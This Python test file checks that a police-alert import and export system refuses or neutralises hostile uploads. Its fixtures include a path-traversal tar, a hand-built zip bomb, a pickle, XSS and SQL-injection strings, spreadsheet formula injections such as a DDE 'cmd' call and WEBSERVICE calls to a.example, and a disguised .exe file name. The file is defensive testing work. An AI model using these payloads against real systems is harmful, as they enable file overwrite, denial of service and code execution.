"""Hostile and odd files given to a real station: a sentence and nothing kept, or read right, and quickly."""

from __future__ import annotations

import bz2
import csv as csv_module
import gzip
import io
import json
import lzma
import os
import pickle
import re
import sqlite3
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlmodel import func, select

from core.errors import BadInput
from core.i18n import say, speaking
from core.vocabulary import Role
from domain.alerts.batches import refused_file, refused_rows
from domain.alerts.exporting import export_alerts
from domain.alerts.importing import ImportResult, Order, import_file
from domain.alerts.reading.limits import WEB
from domain.sheets import FORMULA_SIGNS
from models import Alert, ImportBatch, RefusedRow
from tests.alerts import HEADER, ID_NUMBER, PHONE, Row, row_110, rows_110, this_year
from tests.factories import SmallStation, small_station
from tests.unit.domain.alerts.reading.files import csv_text, old_workbook, with_parts, workbook

SECONDS = 3.0
TIME, PLACE, AREA, SUMMARY, KIND = "报警时间", "事发地点", "所属社区", "简要警情", "警情小类"
SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
CHINESE = re.compile(r"[\u4e00-\u9fff]{4}")
CONTENT_TYPES = "[Content_Types].xml"


def cells(*rows: Row) -> list[tuple[object, ...]]:
    """Return the header and rows as cells."""
    return [HEADER, *(tuple(row[name] for name in HEADER) for row in rows)]


def csv(*rows: Row, encoding: str = "utf-8") -> bytes:
    """Return rows of the 110 export as csv."""
    return csv_text(cells(*rows)).encode(encoding)


def book(*rows: Row) -> bytes:
    """Return rows of the 110 export as a workbook."""
    return workbook(cells(*rows))


def zipped(**parts: bytes) -> bytes:
    """Return a zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


GOOD = (row_110(1), row_110(2))


# --- files that are something else, or pretend


def database() -> bytes:
    held = sqlite3.connect(":memory:")
    held.execute("CREATE TABLE alert (x)")
    return held.serialize()


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        found = tarfile.TarInfo("../../etc/cron.d/x")
        content = csv(*GOOD)
        found.size = len(content)
        archive.addfile(found, io.BytesIO(content))
    return out.getvalue()


def locked() -> bytes:
    """A zip whose entries say that they are encrypted."""
    held = bytearray(book(*GOOD))
    at = 0
    while (at := held.find(b"PK\x01\x02", at)) >= 0:
        held[at + 8] |= 1
        at += 4
    at = 0
    while (at := held.find(b"PK\x03\x04", at)) >= 0:
        held[at + 6] |= 1
        at += 4
    return bytes(held)


def overlapping() -> bytes:
    """A zip of many names for one swollen part (the bomb of 2019, in small)."""
    packed = zlib.compress(bytes(4 << 20), 9)[2:-4]
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), 4 << 20, 1, 0) + b"a"
    central = b""
    for number in range(150):
        name = f"xl/worksheets/sheet{number}.xml".encode()
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed), 4 << 20, len(name),
            0, 0, 0, 0, 0, 0,
        ) + name  # fmt: skip
    body = local + packed
    return (
        body + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 150, 150, len(central), len(body), 0)
    )


def all_hidden() -> bytes:
    out = openpyxl.Workbook()
    for name in ("A", "B"):
        sheet = out.create_sheet(name)
        for line in cells(*GOOD):
            sheet.append(list(line))
        sheet.sheet_state = "veryHidden"
    held = io.BytesIO()
    out.save(held)
    return held.getvalue()


def cells_by_formula() -> bytes:
    """A workbook whose cells are formulas without a kept value: a program wrote it, nobody ever opened it."""
    out = openpyxl.Workbook()
    sheet = out.worksheets[0]
    sheet.append(list(HEADER))
    for _ in range(3):
        sheet.append([f'=WEBSERVICE("http://a.example/"&A{n})' for n in range(1, len(HEADER) + 1)])
    held = io.BytesIO()
    out.save(held)
    return held.getvalue()


def with_dtd(encoding: str) -> bytes:
    text = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><worksheet><sheetData/></worksheet>'
    return with_parts(book(*GOOD), {SHEET: text.encode(encoding)})


REFUSED: dict[str, Callable[[], bytes]] = {
    "a database": database,
    "a tar with a climbing name": tarred,
    "a bz2": lambda: bz2.compress(csv(*GOOD)),
    "an xz": lambda: lzma.compress(csv(*GOOD)),
    "a 7z": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(200),
    "a rar": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(200),
    "a zstd": lambda: b"\x28\xb5\x2f\xfd" + bytes(200),
    "a picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(200),
    "a photo": lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(200),
    "a program": lambda: b"\x7fELF\x02\x01\x01" + bytes(200),
    "a program of Windows": lambda: b"MZ\x90\x00" + bytes(200),
    "a pickle": lambda: pickle.dumps({"os": "system"}),
    "a parquet": lambda: pd.DataFrame([GOOD[0]]).to_parquet(),
    "a letter in rtf": lambda: b"{\\rtf1\\ansi J1}",
    "a page with a mark before it": lambda: b"\xef\xbb\xbf<!doctype html><script>alert(1)</script>",
    "a drawing": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "json": lambda: json.dumps([GOOD[0]], ensure_ascii=False).encode(),
    "json by lines": lambda: b"\n".join(json.dumps(r, ensure_ascii=False).encode() for r in GOOD),
    "an archive of csv": lambda: zipped(**{"110.csv": csv(*GOOD)}),
    "an empty archive": zipped,
    "a document called xlsx": lambda: zipped(word__document=b"<w/>", **{CONTENT_TYPES: b"<Types/>"}),
    "an open document": lambda: zipped(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
    "a locked archive": locked,
    "an archive of many names for one part": overlapping,
    "a workbook of hidden sheets": all_hidden,
    "cells that are formulas": cells_by_formula,
    "macros spelled differently": lambda: with_parts(book(*GOOD), {"XL/VBAPROJECT.BIN": b"x"}),
    "a dtd in the sheet": lambda: with_dtd("utf-8"),
    "a dtd in utf-16": lambda: with_dtd("utf-16"),
    "gz of a bomb in a zip": lambda: gzip.compress(zipped(a=bytes(30 << 20))),
    "gz of a picture": lambda: gzip.compress(b"\x89PNG\r\n\x1a\n" + bytes(2000)),
    "utf-32": lambda: csv(*GOOD, encoding="utf-32"),
    "utf-7": lambda: csv(*GOOD, encoding="utf-7"),
    "ebcdic": lambda: b"\xd1\xf1\x6b\xe3\x25" * 50,
    "half of a pair of surrogates": lambda: csv(GOOD[0]) + "J9,\ud83d,\r\n".encode("utf-8", "surrogatepass"),
    "two halves of an export in two encodings": lambda: (
        csv(*rows_110(40)) + csv(*rows_110(40, 40), encoding="gb18030")
    ),
    "a NUL between cells": lambda: csv(*GOOD).replace(b",", b"\0,", 1),
    "a NUL in a cell of a workbook": lambda: with_parts(
        book(*GOOD), {STRINGS: b"<sst><si><t>J1\x00</t></si></sst>"}
    ),
    "columns nobody knows": lambda: csv_text([("甲", "乙"), ("1", "2"), ("3", "4")]).encode(),
    "a time without a category": lambda: csv_text([(TIME, PLACE), ("2026-01-01", "x")] * 2).encode(),
    "a category without a time": lambda: csv_text([(KIND, PLACE), ("邻里纠纷", "x")] * 2).encode(),
    "a hundred thousand columns in a workbook": lambda: workbook([[f"c{n}" for n in range(16_000)]] * 2),
    "a cell of two megabytes": lambda: csv({**GOOD[0], SUMMARY: "长" * (1 << 20)}),
    "one cell that holds the whole file": lambda: b'"' + csv(*rows_110(500)).replace(b'"', b'""') + b'"',
}

# --- rows that cannot be kept: each with its number and a reason, beside rows that can

ODD_TIMES = (
    "2025年13月7日", "2025-02-30 10:00", "0000-00-00", "1899-12-31", "2099-01-01", "2026-11-24 00:00", "昨天",
    "2025/4/25 25:61", "-1", "NaN", "Infinity", "1e400", "9" * 40, "1745544729", "<script>alert(1)</script>",
    "=NOW()", "\u202e2025-04-25", "", "{column}", "%s%n", "'; DROP TABLE alert; --",
)  # fmt: skip
ODD_SERIALS = (-5, 0, 60, 2_958_466, 1e300, True)


def between(make: Callable[..., bytes], **changed: object) -> bytes:
    """Return a file whose second row, row 3 of the sheet, is changed; its neighbours are in order."""
    return make(row_110(1), {**row_110(2), **changed}, row_110(3))


ROW_THREE: dict[str, bytes] = {
    **{f"the time {said[:12]!r}": between(csv, **{TIME: said}) for said in ODD_TIMES},
    **{f"the serial {said}": between(book, **{TIME: said}) for said in ODD_SERIALS},
    "an ID number typed as a number": between(book, 接警编号=110101199003070010),
    "a case number that was rounded": between(book, 接警编号=1e20),
    "no category": between(csv, 警情大类="", 警情小类=""),
    "a category nobody knows": between(csv, 警情大类="外星", 警情小类="外星"),
    "a hundred thousand characters": between(csv, 简要警情="长" * 100_000),
    "a row that stops early": csv(row_110(1))
    + b"J1,2026-01-01\r\n"
    + csv_text(cells(row_110(3))[1:]).encode(),
    "a row of forty cells": csv(row_110(1)) + b",".join([b"x"] * 40) + b"\r\n",
    "the header once more": csv(row_110(1)) + csv(row_110(2)),
    "a second file with its mark": csv(row_110(1)) + csv(row_110(2), encoding="utf-8-sig"),
}

# --- what looks odd and is read right

READ: dict[str, bytes] = {
    "data connections nobody follows": with_parts(book(*GOOD), {"xl/connections.xml": b"<connections/>"}),
    "an embedded object nobody opens": with_parts(book(*GOOD), {"xl/embeddings/ole1.bin": b"\xd0\xcf"}),
    "an active control nobody runs": with_parts(book(*GOOD), {"xl/activeX/activeX1.xml": b"<x/>"}),
    "no list of contents": with_parts(book(*GOOD), {CONTENT_TYPES: b""}),
    "lines of old Macs": csv(*GOOD).replace(b"\r\n", b"\r"),
    "lines of Unix": csv(*GOOD).replace(b"\r\n", b"\n"),
    "tabs": csv_text(cells(*GOOD), "\t").encode(),
    "semicolons": csv_text(cells(*GOOD), ";").encode(),
    "upright strokes": csv_text(cells(*GOOD), "|").encode(),
    "utf-16": csv(*GOOD, encoding="utf-16"),
    "a byte order mark": csv(*GOOD, encoding="utf-8-sig"),
    "gb18030": csv(*GOOD, encoding="gb18030"),
    "an xls of 1997": old_workbook(cells(*GOOD)),
    "wide spaces round a name": csv(*GOOD).replace(TIME.encode(), f"\u00a0{TIME}\u3000".encode()),
    "an invisible sign in a name": csv(*GOOD).replace(TIME.encode(), "报警\u200b时间".encode()),
    "a line break in a name": csv(*GOOD).replace(TIME.encode(), '"报警\n时间"'.encode()),
    "a column twice": csv_text([(*line, line[1]) for line in cells(*GOOD)]).encode(),
    "columns in another order": csv_text([line[::-1] for line in cells(*GOOD)]).encode(),
    "five hundred empty columns": csv_text([(*line, *[""] * 480) for line in cells(*GOOD)]).encode(),
    "a merged title over the table": workbook(
        [["统计表"], *cells(*GOOD)], [(0, 0, 0, len(HEADER) - 1, "接处警情况统计表")]
    ),
}  # fmt: skip
DATES: dict[str, tuple[bytes, str, int]] = {
    "2025年3月7日": (between(csv, **{TIME: "2025年3月7日"}), "2025-03-07", -1),
    "full-width figures": (between(csv, **{TIME: "２０２５/０３/０７ １２：３０"}), "2025-03-07", 12),
    "a serial in a cell": (between(book, **{TIME: 45000.75}), "2023-03-15", 18),
    "a serial as text": (between(csv, **{TIME: "45000"}), "2023-03-15", -1),
    "figures without signs": (between(csv, **{TIME: "20250425093209"}), "2025-04-25", 9),
    "a moment in UTC": (between(csv, **{TIME: "2025-04-25T09:32:09Z"}), "2025-04-25", 17),
    "a moment with its offset": (between(csv, **{TIME: "2025-04-25T09:32:09+08:00"}), "2025-04-25", 9),
    "the day that comes every four years": (between(csv, **{TIME: "2024-02-29 10:00"}), "2024-02-29", 10),
    "an invisible sign behind it": (between(csv, **{TIME: "2025/4/25 9:32:09\u200b"}), "2025-04-25", 9),
}
FILE_NAMES = ("../../etc/cron.d/x.csv", "a\u202evsc.exe", f"{PHONE}-{ID_NUMBER}.csv", "长" * 300 + ".csv", "")


@dataclass(frozen=True)
class Taken:
    """What a station holds after a file was given to it."""

    alerts: tuple[Alert, ...]
    batches: int
    refused: tuple[RefusedRow, ...]


@pytest.fixture(scope="module")
def station(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SmallStation]:
    """A station to which files are given that it must not take."""
    made = small_station(tmp_path_factory.mktemp("hostile"))
    yield made
    made.desk.database.close()


@pytest.fixture
def fresh(tmp_path: Path) -> Iterator[SmallStation]:
    made = small_station(tmp_path)
    yield made
    made.desk.database.close()


def given(station: SmallStation, held: bytes, name: str = "导出.xlsx") -> ImportResult:
    """Import a file as the page does, in no more than three seconds."""
    began = sum(os.times()[:4])  # of this process and of the child that reads workbooks
    try:
        return import_file(
            station.desk, station.actor(Role.CLERK), Order(held, name, limits=WEB), station.clock
        )
    finally:
        assert sum(os.times()[:4]) - began < SECONDS


def held_by(station: SmallStation) -> Taken:
    """Look at what is kept."""
    with station.reading() as session:
        rows = session.exec(select(Alert).order_by(Alert.case_no)).all()  # type: ignore[arg-type]
        batches = session.exec(select(func.count()).select_from(ImportBatch)).one()
        return Taken(tuple(rows), batches, tuple(session.exec(select(RefusedRow)).all()))


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_in_a_chinese_sentence_and_nothing_is_kept(station: SmallStation, what: str) -> None:
    held = REFUSED[what]()

    with pytest.raises(BadInput) as raised:
        given(station, held)

    with speaking("zh_CN"):
        said = say(raised.value.message)
    assert said.endswith("。")
    assert CHINESE.search(said)
    assert held_by(station) == Taken((), 0, ())


@pytest.mark.parametrize("what", ROW_THREE)
def test_a_row_that_cannot_be_kept_is_named_by_its_number(fresh: SmallStation, what: str) -> None:
    result = given(fresh, ROW_THREE[what])

    kept = held_by(fresh)
    assert result.refused == 1
    assert [row.row_no for row in kept.refused] == [3]
    assert len(kept.alerts) == result.imported == result.rows - 1
    assert kept.refused[0].reason["text"]


@pytest.mark.parametrize("what", ROW_THREE)
def test_the_file_of_refused_rows_has_no_live_cell(fresh: SmallStation, what: str) -> None:
    result = given(fresh, ROW_THREE[what])
    assert result.batch is not None

    with fresh.reading() as session:
        clerk = fresh.actor(Role.CLERK)
        told = "".join(refused_file(session, fresh.desk.cipher, clerk, result.batch))
        (row,) = refused_rows(session, fresh.desk.cipher, 1, result.batch)

    lines = list(csv_module.reader(io.StringIO(told.removeprefix("\ufeff"))))
    assert len(lines) == 2
    assert not [cell for line in lines for cell in line if cell.startswith(FORMULA_SIGNS)]
    assert row.row_no == 3


@pytest.mark.parametrize("what", READ)
def test_it_is_read_as_if_nothing_was_odd(fresh: SmallStation, what: str) -> None:
    result = given(fresh, READ[what])

    kept = held_by(fresh)
    assert (result.imported, result.refused) == (2, 0)
    assert [row.case_no for row in kept.alerts] == ["J5109000001", "J5109000002"]
    assert [row.category for row in kept.alerts] == ["AL302", "AL105"]
    assert all(row.summary for row in kept.alerts)


@pytest.mark.parametrize("what", DATES)
def test_a_date_is_read_for_what_it_says(fresh: SmallStation, what: str) -> None:
    held, day, hour = DATES[what]

    given(fresh, held)

    (found,) = [row for row in held_by(fresh).alerts if row.case_no == "J5109000002"]
    assert (str(found.occurred_on), found.hour) == (day, hour)


@pytest.mark.parametrize("name", FILE_NAMES)
def test_the_name_of_a_file_is_a_word_and_no_path(fresh: SmallStation, name: str, tmp_path: Path) -> None:
    before = {path.name for path in tmp_path.parent.iterdir()}

    given(fresh, csv(*GOOD), name)

    with fresh.reading() as session:
        kept = session.exec(select(ImportBatch.file_name)).one()
    assert PHONE not in kept
    assert ID_NUMBER not in kept
    assert len(kept) <= 300 + len(".csv")
    assert {path.name for path in tmp_path.parent.iterdir()} == before


def test_there_are_sixty_files_and_more() -> None:
    assert len(REFUSED) + len(ROW_THREE) + len(READ) + len(DATES) >= 100


# --- there and back: what came in as a formula goes out as a text

LIVE = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", '=HYPERLINK("http://a.example","x")', "\t=1+1",
    "\r=1+1", "＝1＋1", "＠SUM(A1)", "|calc", '=WEBSERVICE("http://a.example")', "=IMPORTXML(1)", "+86 138",
)  # fmt: skip


def test_an_export_of_formulas_holds_none(fresh: SmallStation) -> None:
    rows: Sequence[Row] = [
        {**row_110(n), SUMMARY: said, PLACE: said, AREA: "第一社区"} for n, said in enumerate(LIVE, 1)
    ]
    given(fresh, csv(*rows))

    with fresh.work(Role.CLERK) as work:
        content = export_alerts(work, this_year(fresh))[2]

    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    read = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert len(read) > 5 * len(LIVE)
    assert {cell.data_type for cell in read} == {"s"}
    assert not [cell.value for cell in read if str(cell.value).startswith(FORMULA_SIGNS)]
    assert not [cell.hyperlink for cell in read if cell.hyperlink]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if "external" in name or "vba" in name.lower()]
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]


def test_what_was_exported_can_be_taken_in_again(fresh: SmallStation, tmp_path: Path) -> None:
    given(fresh, csv(*rows_110(8, 1)))
    with fresh.work(Role.CLERK) as work:
        name, _kind, content = export_alerts(work, this_year(fresh))
    (tmp_path / "other").mkdir()
    other = small_station(tmp_path / "other")

    result = given(other, content, name)

    assert (result.rows, result.refused) == (8, 0)
    assert [row.case_no for row in held_by(other).alerts] == [row.case_no for row in held_by(fresh).alerts]
    other.desk.database.close()
